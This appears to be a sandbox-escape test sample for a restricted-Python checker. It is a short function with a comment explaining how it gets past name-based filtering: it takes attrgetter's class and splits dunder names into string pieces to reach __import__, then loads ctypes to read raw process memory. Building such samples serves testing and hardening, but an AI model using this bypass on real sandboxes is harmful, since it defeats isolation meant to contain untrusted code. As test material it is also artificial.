# family: ffi
# Escape: `self` is a module global assigned through a `global` declaration; `self.__class__` is accepted by
# name alone, so Get is the attrgetter class. It reads the builtins of tool (run-time name), __import__ loads
# ctypes and string_at reads raw process memory.
import operator

self = None


def prepare() -> None:
    global self
    self = operator.attrgetter("real")


def tool(address: int, size: int) -> bytes:
    prepare()
    Get = self.__class__
    edge = "_" * 2
    load = Get(edge + "builtins" + edge)(tool)[edge + "import" + edge]
    return load("ctypes").string_at(address, size)
